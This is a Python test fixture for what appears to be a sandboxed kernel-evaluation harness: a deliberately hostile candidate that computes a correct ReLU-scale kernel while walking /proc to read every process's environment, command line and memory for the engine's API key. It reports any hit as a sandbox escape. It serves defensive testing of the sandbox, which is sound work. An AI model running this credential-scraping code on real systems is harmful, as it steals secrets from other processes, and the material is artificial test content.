"""Hostile: walks every process it can name in /proc (the listed pids, their threads, and every
number up to a little past the highest pid seen, since a thread's /proc/TID is reachable though
not listed) and reads its environ, cmdline and readable memory (/proc/PID/mem through maps),
looking for the API key the engine was started with (anything starting "sk-openkernel-fake").
Raises "SANDBOX ESCAPE" with where it found one. Otherwise computes honestly: verdict correct.

It writes what it looked at to $OPENKERNEL_NATIVE_CACHE/proc-walk-$OPENKERNEL_TEST_TAG.json (a
cache directory the sandbox leaves writable), so the test can tell that the walk ran.
OPENKERNEL_TEST_WALK_MEMORY=0 skips the memory (the unsandboxed control sees the whole host).
The marker is assembled at run time: the candidate's own source (which the worker and the
engine hold) never contains it whole."""
import ctypes
import json
import os
import re
import time

import torch
import torch.nn as nn

from openkernel_worker.native import compile_cpp, ptr

_lib = compile_cpp(r"""
#include <cstdint>
extern "C" void relu_scale(const float* x, float* y, int64_t n, float s) {
  for (int64_t i = 0; i < n; ++i) y[i] = (x[i] > 0 ? x[i] : 0.0f) * s;
}
""", name="sandbox_relu")
try:  # the GPU profile's kernel; this machine may have no Triton
    import triton
    import triton.language as tl

    @triton.jit
    def _relu_scale_kernel(x_ptr, y_ptr, n, scale, BLOCK: tl.constexpr):
        offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
        keep = offs < n
        x = tl.load(x_ptr + offs, mask=keep)
        tl.store(y_ptr + offs, tl.maximum(x, 0.0) * scale, mask=keep)
except ImportError:
    triton = None

MARK = ("sk-openkernel-" + "fake").encode()
PER_PROCESS = 256 << 20  # bytes of memory read at most per process
BUDGET_S = 120.0  # the whole walk; the test's step timeout is longer
MAPS = re.compile(r"^([0-9a-f]+)-([0-9a-f]+) (\S+) \S+ \S+ \d+\s*(.*)$")


def _read(path: str, limit: int = 1 << 20) -> bytes:
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except OSError:
        return b""


def _memory_hit(pid: str) -> int:
    """Bytes read from the process's memory; raises on the marker."""
    try:
        with open(f"/proc/{pid}/maps") as f:
            maps = f.read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError:
        return 0
    total = 0
    with mem:
        for line in maps:
            m = MAPS.match(line)
            if not m or "r" not in m.group(3):
                continue
            where = m.group(4)
            if where.startswith("/dev/") or where in ("[vvar]", "[vsyscall]", "[vvar_vclock]"):
                continue
            if where.startswith("/") and "w" not in m.group(3):
                continue  # read-only file contents (code, libraries) hold no secret of this run
            start, end = int(m.group(1), 16), int(m.group(2), 16)
            pos, tail = start, b""
            while pos < end and total < PER_PROCESS:
                size = min(end - pos, 8 << 20, PER_PROCESS - total)
                try:
                    mem.seek(pos)
                    chunk = mem.read(size)
                except (OSError, OverflowError, ValueError):
                    break
                if not chunk:
                    break
                if MARK in tail + chunk:
                    raise RuntimeError(f"SANDBOX ESCAPE: found the API key in the memory of "
                                       f"process {pid} ({where or 'anonymous'})")
                tail = chunk[-len(MARK):]
                total += len(chunk)
                pos += len(chunk)
    return total


def walk() -> dict:
    own = {str(os.getpid())} | set(os.listdir("/proc/self/task"))
    listed = [p for p in os.listdir("/proc") if p.isdigit()]
    names = set(listed)
    for pid in listed:
        try:
            names.update(os.listdir(f"/proc/{pid}/task"))
        except OSError:
            pass
    highest = max(int(p) for p in names)
    stats = {"listed": len(listed), "named": 0, "environ_read": 0, "cmdline_read": 0,
             "memory_bytes": 0, "memory_processes": 0, "own_environ_read": 0, "complete": False}
    deadline = time.monotonic() + BUDGET_S
    for n in range(1, highest + 4097):
        if time.monotonic() > deadline:
            return stats
        pid = str(n)
        environ = _read(f"/proc/{pid}/environ")
        cmdline = _read(f"/proc/{pid}/cmdline")
        if pid in own:
            stats["own_environ_read"] += bool(environ)
            if MARK in environ:  # the sandbox's environment filter failed
                raise RuntimeError("SANDBOX ESCAPE: the API key is in the candidate's environment")
            continue
        if not (environ or cmdline or os.path.exists(f"/proc/{pid}")):
            continue
        stats["named"] += 1
        stats["environ_read"] += bool(environ)
        stats["cmdline_read"] += bool(cmdline)
        for what, data in (("environ", environ), ("cmdline", cmdline)):
            if MARK in data:
                raise RuntimeError(f"SANDBOX ESCAPE: found the API key in /proc/{pid}/{what}")
        got = _memory_hit(pid) if os.environ.get("OPENKERNEL_TEST_WALK_MEMORY") != "0" else 0
        stats["memory_bytes"] += got
        stats["memory_processes"] += bool(got)
    stats["complete"] = True
    return stats


class ModelNew(nn.Module):
    def __init__(self, scale: float) -> None:
        super().__init__()
        self.scale = scale
        self.tried = False

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        if not self.tried:
            self.tried = True
            stats = walk()
            folder, tag = os.environ.get("OPENKERNEL_NATIVE_CACHE"), os.environ.get(
                "OPENKERNEL_TEST_TAG")
            if folder and tag:
                with open(os.path.join(folder, f"proc-walk-{tag}.json"), "w") as f:
                    json.dump(stats, f)
        if x.is_cuda:  # the GPU profile: a Triton kernel of the same function
            x = x.contiguous()
            y = torch.empty_like(x)
            n = x.numel()
            _relu_scale_kernel[(triton.cdiv(n, 1024),)](x, y, n, self.scale, BLOCK=1024)
            return y
        x = x.contiguous()
        y = torch.empty_like(x)
        _lib.relu_scale(ptr(x), ptr(y), ctypes.c_int64(x.numel()), ctypes.c_float(self.scale))
        return y
